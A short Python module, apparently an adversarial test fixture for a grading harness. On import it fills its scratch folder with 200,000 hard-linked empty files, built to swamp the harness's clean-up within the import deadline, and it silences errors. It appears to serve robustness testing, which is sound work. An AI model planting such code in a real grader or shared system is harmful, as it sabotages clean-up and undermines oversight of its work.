"""Leaves 200,000 empty files in its scratch folder: more than a clean-up removes at once. Hard links,
50,000 to a file (ext4 allows 65,000): making 200,000 inodes took 60-80 s on the test machine's ext4,
past the import's deadline, the links 3 s; the clean-up unlinks each name all the same.

Only the attack is here: the test puts a correct graph2 before it.
"""
import os
_fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
try:
    for _number in range(200_000):
        if _number % 50_000 == 0:
            _source = f"f{_number}"
            os.close(os.open(_source, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=_fd))
        else:
            os.link(_source, f"f{_number}", src_dir_fd=_fd, dst_dir_fd=_fd)
except OSError:
    pass
